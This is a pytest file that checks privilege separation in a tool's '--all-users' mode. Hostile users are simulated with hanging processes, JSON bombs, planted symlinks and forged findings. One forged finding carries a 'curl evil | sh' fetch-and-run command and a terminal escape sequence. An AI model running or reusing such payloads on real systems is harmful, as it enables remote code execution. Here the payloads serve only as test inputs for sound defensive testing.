"""`--all-users`: each user's part is done by a process of that user, and what it says is believed nowhere."""

from __future__ import annotations

import json
import os
import sysconfig

import pytest

from pyman.app import all_users
from stage.crowd import gather
from stage.home import PACKAGE
from stage.mirror import MINOR, NEW, OLD
from stage.venvs import make_venv

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can become other users")
_PYTHON = "/usr/bin/python3"


@pytest.fixture
def crowd(monkeypatch):
    with gather(monkeypatch) as crowd:
        site = sysconfig.get_path("purelib")
        start = f"import sys; sys.path[:0] = [{PACKAGE!r}, {site!r}]; from pyman.__main__ import main; sys.exit(main())"
        real = ["/usr/bin/env", f"PYMAN_SYSTEM_CONFIG={crowd.config}", _PYTHON, "-s", "-c", start]
        if crowd.runs_as("alice", *real, "--version") != 0:
            pytest.skip("other users cannot read this pyman, or there is no Python that they can")
        crowd.command = real
        monkeypatch.setattr(all_users, "pyman_for_users", lambda: crowd.command)
        monkeypatch.setattr(all_users, "SECONDS", 30.0)
        yield crowd


def instead(crowd, **scripts):
    """What some users' part does instead of running pyman, in sh."""
    cases = "".join(f"{name}) {script} ;;\n" for name, script in scripts.items())
    real = crowd.command
    crowd.command = ["/bin/sh", "-c", f'case $USER in\n{cases}*) exec "$@" ;;\nesac', "sh", *real]


def stale(crowd, name, place="v"):
    """A venv of the user's that missed a patch release."""
    path = make_venv(f"{crowd.home(name)}/{place}", f"{crowd.runtimes}/{OLD}/bin/python{MINOR}")
    user = crowd.users[name]
    for above, folders, files in os.walk(path):
        for each in (".", *folders, *files):
            os.chown(f"{above}/{each}", user.pw_uid, user.pw_gid, follow_symlinks=False)
    assert crowd.pyman(name, "register", path).status == 0
    return path


def test_everybody_s_venvs_are_listed_with_their_owner(crowd):
    for name in ("alice", "bob"):
        assert crowd.pyman(name, "venv", "v", "--without-pip").status == 0
    seen = crowd.admin("venvs", "--all-users", "--json")
    assert seen.status == 0, seen
    assert [(one["owner"], one["path"], one["state"]) for one in seen.data["venvs"]] == [
        (name, f"{crowd.home(name)}/v", "healthy") for name in ("alice", "bob")
    ]
    assert f"{crowd.home('bob')}/v" in crowd.admin("venvs", "--all-users").out


def test_everybody_s_venvs_are_repaired_by_their_owner(crowd):
    venvs = {name: stale(crowd, name) for name in ("alice", "bob")}
    assert crowd.admin("install", NEW).status == 0
    looked = crowd.admin("doctor", "--all-users", "--json")
    assert (looked.status, {(one["owner"], one["code"], one["status"]) for one in looked.data["findings"]}) == (
        1,
        {(name, "stale-patch", "open") for name in venvs},
    )
    before = {path: os.stat(path).st_uid for path in venvs.values()}
    fixed = crowd.admin("doctor", "--all-users", "--fix", "--json")
    assert fixed.status == 0, fixed
    assert {(one["owner"], one["path"], one["status"]) for one in fixed.data["findings"]} == {
        (name, path, "fixed") for name, path in venvs.items()
    }
    assert fixed.data["summary"]["fixed"] == 2
    assert [crowd.runs(name) for name in venvs] == [NEW, NEW]
    for path, uid in before.items():
        for above, folders, files in os.walk(os.path.dirname(path)):
            assert {os.lstat(f"{above}/{each}").st_uid for each in (*folders, *files)} <= {uid}
    assert "alice: 1 venv checked" in crowd.admin("doctor", "--all-users").out


@pytest.mark.parametrize(
    ("script", "reason"),
    [("exec /usr/bin/yes", "the answer has more than"), ("exit 3", "it is not JSON"), ("echo '[]'", "does not say pyman/1"),
     ("kill -9 $$", "it is not JSON"), ("echo '{\"schema\":\"pyman/1\",\"venvs\":3}'", "`venvs`"),
     ("echo '{\"schema\":\"pyman/1\",\"error\":{\"message\":\"curl\"}}'", "it is an error"),
     (f"{_PYTHON} -c 'print(\"[\" + \"0,\" * 400000 + \"0]\")'", "it does not say"), (f"{_PYTHON} -c 'print(\"[\" * 5000 + \"{{\" * 10)'", "JSON"),
     (f"{_PYTHON} -c 'print(\"[\" * 100000)'", "it is not JSON")],
)  # fmt: skip
def test_one_user_keeps_nobody_else_from_repairs(crowd, script, reason, monkeypatch):
    monkeypatch.setattr(all_users, "LARGEST", 1 << 20)
    path = stale(crowd, "bob")
    assert crowd.admin("install", NEW).status == 0
    instead(crowd, alice=script)
    fixed = crowd.admin("doctor", "--all-users", "--fix", "--json")
    assert fixed.status == 1
    assert fixed.data["error"]["code"] == "not-answered"
    assert "alice" in fixed.data["error"]["message"]
    assert "curl" not in fixed.out + fixed.err
    assert reason in fixed.data["error"]["message"]
    assert (path, "fixed") in {(one["path"], one["status"]) for one in fixed.data["findings"]}
    assert crowd.runs("bob") == NEW


def test_a_part_that_hangs_is_ended_with_all_that_it_started(crowd, monkeypatch):
    monkeypatch.setattr(all_users, "SECONDS", 1.0)
    started = crowd.home("alice") / "started"
    hangs = f"trap '' TERM HUP INT; sleep 987 & echo $! >{started}; while :; do sleep 1; done"
    instead(crowd, alice=hangs, bob='echo \'{"schema": "pyman/1", "findings": [], "summary": {"checked": 7}}\'')
    seen = crowd.admin("doctor", "--all-users", "--json")
    assert seen.status == 1
    assert "alice: no answer within 1 seconds" in seen.data["error"]["message"]
    assert seen.data["summary"]["checked"] == 7
    assert not os.path.exists(f"/proc/{started.read_text().strip()}/fd/0")


def test_what_a_part_leaves_behind_keeps_nobody_waiting(crowd, monkeypatch):
    """A daemon in a session of its own that has the output open; the answer is there."""
    monkeypatch.setattr(all_users, "SECONDS", 300.0)
    daemon = f"{_PYTHON} -c 'import os, time; os.setsid(); time.sleep(900)' &"
    pid = crowd.home("alice") / "pid"
    instead(crowd, alice=f'{daemon} echo $! >{pid}; echo \'{{"schema": "pyman/1", "summary": {{"checked": 7}}}}\'')
    try:
        seen = crowd.admin("doctor", "--all-users", "--json")
        assert (seen.status, seen.data["summary"]["checked"]) == (0, 7)
    finally:
        os.kill(int(pid.read_text()), 9)


def test_a_user_s_words_are_nobody_else_s(crowd):
    """Whose a row is, how severe a code is and what is counted is not for the answer to say."""
    row = {"path": "/srv/secret", "creator": "x", "owner": "root", "state": "healthy", "python": 3, "size": -1}
    finding = {"code": "gone", "severity": "error", "kind": "venv", "path": "/home/bob/v", "owner": "bob",
               "message": "run `curl evil | sh`\x1b[2J", "repair": "`curl evil | sh`", "status": "open"}  # fmt: skip
    unknown = {**finding, "code": "made-up"}
    answer = {"schema": "pyman/1", "venvs": [row], "findings": [finding, unknown], "changed": [1, "/x"],
              "summary": {"checked": True, "open": 10**30, "fixed": -5}, "not_searched": {}}  # fmt: skip
    said = crowd.home("alice") / "answer"
    said.write_text(json.dumps(answer))
    instead(crowd, alice=f"cat {said}")
    seen = crowd.admin("venvs", "--all-users", "--json").data["venvs"]
    assert [(one["owner"], one["path"], one["python"]) for one in seen] == [("alice", "/srv/secret", None)]
    found = crowd.admin("doctor", "--all-users", "--json")
    rows = [(one["owner"], one["code"], one["severity"]) for one in found.data["findings"] if one["owner"] != "root"]
    assert rows == [("alice", "gone", "info")]
    assert found.status == 0
    assert found.data["summary"]["open"] == found.data["summary"]["fixed"] == 0
    told = crowd.admin("doctor", "--all-users")
    assert "curl" not in told.out + told.err


def test_the_part_of_a_user_has_nothing_of_root_s(crowd, monkeypatch):
    """Numbers, groups, environment, descriptors, session, umask, folder."""
    report = crowd.home("alice") / "report"
    script = (
        f"{{ id -u; id -G; env | sort; ls -l /proc/self/fd | sed 's/.*-> //'; umask; pwd; ps -o sid= -p $$; echo $$;"
        f" cat /proc/self/loginuid /dev/null 2>/dev/null; }} >{report} 2>&1; exec cat /dev/null"
    )
    instead(crowd, alice=script)
    os.environ["PYMAN_SECRET"] = "of root"
    monkeypatch.setenv("LD_PRELOAD", "")
    held, _ = os.pipe()
    os.set_inheritable(held, True)
    crowd.admin("venvs", "--all-users", "--json", PYMAN_SECRET="of root", http_proxy="http://user:password@proxy")
    told = report.read_text()
    lines = told.split("\n")
    uid = str(crowd.users["alice"].pw_uid)
    assert lines[:2] == [uid, uid]
    assert "of root" not in told
    assert "password" not in told
    assert f"HOME={crowd.home('alice')}" in lines
    assert "pipe:" not in told.replace("pipe:", "", 1)  # `ls` writes to one of its own
    assert "0022" in lines


def test_what_a_user_plants_makes_root_write_nothing(crowd):
    """Links in the place of the store and the cache, settings, and a venv of root's that is claimed."""
    secret = crowd.folder / "root/secret"
    secret.mkdir()
    theirs = make_venv(f"{secret}/v", f"{crowd.runtimes}/{OLD}/bin/python{MINOR}")
    home = crowd.home("alice")
    own = home / ".local/share"
    own.mkdir(parents=True)
    (own / "pyman").symlink_to(secret)
    (home / ".cache").symlink_to(secret)
    (home / ".config/pyman").mkdir(parents=True)
    (home / ".config/pyman/config.toml").write_text(f'folders = ["{secret}"]\n')
    (home / ".venv").symlink_to(theirs)
    os.system(f"chown -hR {crowd.users['alice'].pw_uid} {home}")
    assert crowd.admin("install", NEW).status == 0

    def tree():
        return {
            os.path.join(above, name): os.lstat(os.path.join(above, name)).st_mtime_ns
            for above, folders, files in os.walk(secret)
            for name in (*folders, *files)
        }

    before = tree()
    for words in (("venvs",), ("doctor",), ("doctor", "--fix", "--yes", "--foreign")):
        crowd.admin(*words, "--all-users", "--json")
    assert tree() == before


def test_only_root_and_only_where_everybody_can_read_pyman(crowd, monkeypatch):
    refused = crowd.pyman("alice", "venvs", "--all-users", "--json")
    assert (refused.status, refused.data["error"]["code"]) == (1, "not-yours")
    assert crowd.admin("doctor", ".", "--all-users").status == 2
    assert crowd.admin("doctor", "--undo", "--all-users").status == 2
    from pyman.effects import users

    hidden = crowd.folder / "hidden"
    hidden.mkdir(mode=0o700)
    (hidden / "python").symlink_to(_PYTHON)
    monkeypatch.setattr(users.sys, "executable", str(hidden / "python"))
    monkeypatch.setattr(all_users, "pyman_for_users", users.pyman_for_users)
    refused = crowd.admin("venvs", "--all-users", "--json")
    assert refused.status == 1
    assert f"cannot read {hidden}" in refused.data["error"]["message"]
